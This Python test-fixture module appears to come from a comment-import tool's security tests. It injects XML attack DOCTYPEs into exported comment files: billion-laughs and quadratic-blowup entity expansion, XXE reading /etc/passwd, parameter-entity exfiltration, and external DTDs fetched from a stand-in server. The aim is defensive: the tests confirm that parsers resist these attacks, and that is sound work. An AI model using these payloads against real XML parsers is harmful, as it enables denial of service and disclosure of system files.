"""XML attacks (entity expansion, external entities) for the sources that read XML."""

from __future__ import annotations

from pathlib import Path

from .comments import WRITERS, Fields

# -- XML attacks -------------------------------------------------------------

XML_SOURCES = ("wordpress", "feed", "disqus", "blogger")
_LOL = "".join(
    f'<!ENTITY lol{n} "{f"&lol{n - 1};" * 10 if n else "lol"}">' for n in range(10)
)
#: name -> (DOCTYPE, what the comment's fields say)
XML_ATTACKS = {
    "billion-laughs": (f"<!DOCTYPE lolz [{_LOL}]>", "&lol9;"),
    "quadratic-blowup": (
        f'<!DOCTYPE q [<!ENTITY a "{"A" * 50_000}">]>',
        "&a;" * 2_000,
    ),
    "external-entity": (
        '<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
        "&xxe;",
    ),
    "parameter-entity": (
        '<!DOCTYPE x [<!ENTITY % p SYSTEM "file:///etc/passwd"> %p;]>',
        "hello",
    ),
    "parameter-entity-exfiltration": (
        '<!DOCTYPE x [<!ENTITY % file SYSTEM "file:///etc/passwd">'
        "<!ENTITY % wrap \"<!ENTITY leak '%file;'>\"> %wrap;]>",
        "&leak;",
    ),
    "external-dtd": ('<!DOCTYPE x SYSTEM "file:///etc/passwd">', "hello"),
    "external-dtd-over-http": ('<!DOCTYPE x SYSTEM "{server}/evil.dtd">', "hello"),
    "external-entity-over-http": (
        '<!DOCTYPE x [<!ENTITY xxe SYSTEM "{server}/secret">]>',
        "&xxe;",
    ),
    "parameter-entity-over-http": (
        '<!DOCTYPE x [<!ENTITY % p SYSTEM "{server}/evil.dtd"> %p;]>',
        "hello",
    ),
}
#: Attacks a careful parser may simply ignore (nothing is loaded): the file
#: is read like any other.
IGNORABLE_ATTACKS = frozenset({"external-dtd", "external-dtd-over-http"})
_MARK = "XMLATTACKMARK"


def write_xml_attack(site, source: str, attack: str, server: str) -> list[dict]:
    """``source``'s export with ``attack``'s DOCTYPE and entity references
    in a comment's name and content; ``server`` is where remote entities
    point (a replay server that must receive nothing)."""
    doctype, reference = XML_ATTACKS[attack]
    doctype = doctype.replace("{server}", server)
    specs = WRITERS[source](site, [Fields(id="a1", name=_MARK, content=_MARK)])
    path = site.root / specs[0]["path"]
    text = path.read_text(encoding="utf-8")
    declaration, rest = text.split("?>", 1)
    path.write_text(
        f"{declaration}?>\n{doctype}{rest.replace(_MARK, reference)}",
        encoding="utf-8",
    )
    return specs


def passwd_lines() -> list[str]:
    """Lines of /etc/passwd worth looking for (with a colon-separated shape)."""
    try:
        text = Path("/etc/passwd").read_text(encoding="utf-8", errors="replace")
    except OSError:
        return ["root:x:0:0:"]
    return [line for line in text.splitlines() if line.count(":") >= 5]
